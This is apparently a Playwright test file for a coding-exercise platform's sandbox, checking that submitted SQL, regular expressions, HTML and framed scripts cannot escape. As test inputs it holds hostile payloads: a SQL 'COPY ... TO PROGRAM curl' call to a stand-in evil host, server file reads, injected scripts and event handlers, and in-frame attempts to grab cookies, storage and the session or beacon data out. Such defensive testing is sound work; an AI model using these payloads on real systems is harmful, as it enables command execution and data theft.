import type { Frame } from '@playwright/test'
import {
  asking,
  evil,
  exercise,
  expectStopped,
  leaks,
  page,
  prepareAttacks,
  run,
  unpassable,
} from './exercise-attack.ts'
import { expect, test } from './testing.ts'

prepareAttacks()

test.describe('SQL', () => {
  test('16. reaches no program, file of ours or server', async () => {
    for (const code of [
      `COPY (SELECT 1) TO PROGRAM 'curl ${evil}'`,
      `SELECT pg_read_file('${process.cwd()}/package.json')`,
      "CREATE EXTENSION dblink; SELECT dblink_connect('host=127.0.0.1')",
    ]) {
      const { passed, results } = await run(exercise('sql', asking('')), code)
      expect({ passed, error: Boolean(results[0]?.error) }).toEqual({ passed: false, error: true })
    }
    expect(leaks()).toEqual([])
  })

  test('17. is stopped when a query never ends', async () => {
    await expectStopped(
      exercise('sql', asking('')),
      'WITH RECURSIVE endless(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM endless) SELECT count(*) FROM endless',
    )
  })
})

test.describe('Regular expressions', () => {
  test('18. are stopped when they never end', async () => {
    const tests = { ...asking('test', { setup: `${'a'.repeat(60)}!` }), flags: '' }
    await expectStopped(exercise('regex', tests), '^(a+)+$')
  })
})

test.describe('HTML and CSS', () => {
  const markup = () => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">
    <base href="${evil}/"><link rel="stylesheet" href="${evil}/a.css"><link rel="dns-prefetch" href="${evil}">
    <style>@import url(${evil}/b.css); p { background: url(${evil}/c.png) } @font-face { font-family: x; src: url(${evil}/f.woff2) } p { font-family: x }</style>
    <img src="${evil}/d.png" onerror="document.title='ran'"><script>document.title = 'ran'</script>
    <svg onload="document.title='ran'"><script>document.title='ran'</script></svg><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
    <form action="${evil}/form"><button autofocus onfocus="document.title='ran'">x</button></form>
    <object data="${evil}/o"></object><video src="${evil}/v" autoplay></video>
    <a href="javascript:document.title='ran'">x</a><p>text</p>`

  test('19. run no script and load nothing', async () => {
    const { results } = await run(
      exercise('html', {
        tests: [
          { ...unpassable, probe: 'text p', expected: '"text"' },
          { ...unpassable, probe: 'text title', compare: 'missing', expected: '' },
          { ...unpassable, probe: 'count script, iframe, object, base, link', expected: '0' },
        ],
      }),
      markup(),
    )
    expect(results.map(({ status }) => status)).toEqual(['passed', 'passed', 'passed'])
    expect(leaks()).toEqual([])
  })
})

// Behind all of this stands the frame itself. Here the attacker runs in it, outside any worker, with every name there is.
const inFrame = async (path: string, attack: (frame: Frame) => Promise<void>) => {
  await page.evaluate(
    (src) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement('iframe')
        frame.setAttribute('sandbox', 'allow-scripts')
        frame.id = 'breached'
        frame.src = src
        frame.onload = () => resolve()
        document.body.append(frame)
      }),
    path,
  )
  const frame = page.frames().find((one) => one.url().endsWith(path))
  if (!frame) throw new Error('The frame is missing.')
  await attack(frame)
  await page.evaluate(() => document.getElementById('breached')?.remove())
}

for (const [number, path] of [
  [20, '/exercise-cages/code.html'],
  [21, '/exercise-cages/markup.html'],
] as const)
  test(`${number}. Even code that breaks into ${path} has no origin, storage, network or way out`, async () => {
    await inFrame(path, async (frame) => {
      const found = await frame.evaluate(async (evil) => {
        const attempt = async (action: () => unknown) => {
          try {
            return String(await action())
          } catch {
            return 'refused'
          }
        }
        return {
          origin: globalThis.origin,
          storage: await attempt(() => localStorage.length),
          cookies: await attempt(() => document.cookie),
          database: await attempt(() => indexedDB.open('x')),
          page: await attempt(() => parent.document.body.innerHTML),
          session: await attempt(() => fetch('/auth/get-session', { credentials: 'include' })),
          foreign: await attempt(() => fetch(`${evil}/`)),
          beacon: await attempt(() => navigator.sendBeacon(`${evil}/`) && 'sent'),
          socket: await attempt(
            () =>
              new Promise((resolve, reject) => {
                const socket = new WebSocket(evil.replace('http', 'ws'))
                socket.onopen = () => resolve('open')
                socket.onerror = reject
              }),
          ),
          popup: await attempt(() => window.open(`${evil}/`)),
          top: await attempt(() => {
            top?.location.assign(`${evil}/`)
            return 'left'
          }),
        }
      }, evil)
      expect(found).toMatchObject({
        origin: 'null',
        storage: 'refused',
        cookies: 'refused',
        database: 'refused',
        page: 'refused',
        session: 'refused',
        foreign: 'refused',
        socket: 'refused',
        popup: 'null',
      })
      expect(leaks()).toEqual([])
    })
    expect(page.url()).toContain('localhost')
  })

test('22. A frame that leads away stays on our server', async () => {
  await inFrame('/exercise-cages/code.html', async (frame) => {
    await frame
      .evaluate((evil) => {
        location.href = `${evil}/secret`
      }, evil)
      .catch(() => {})
    await expect.poll(() => page.frames().map((one) => one.url())).not.toContain(`${evil}/secret`)
  })
  expect(leaks()).toEqual([])
})

test('23. A message posted to the page from a frame is heard by nobody', async () => {
  const forged = `const frame = document.querySelector('iframe'); for (const data of [{ ready: true }, { id: '*', test: 0, got: '"x"', passed: true }, { id: '*', done: true, passed: true }]) postMessage(data, '*')`
  const work = page.evaluate(forged)
  expect((await run(exercise('javascript'), 'const answer = () => 1')).passed).toBe(false)
  await work
})

test('24. Afterwards the session, the storage and the page are as they were', async () => {
  expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBe('mine')
  const answer = await page.request.get('/auth/get-session')
  expect(answer.ok()).toBe(true)
  expect(await page.evaluate(() => document.title)).not.toBe('ran')
})
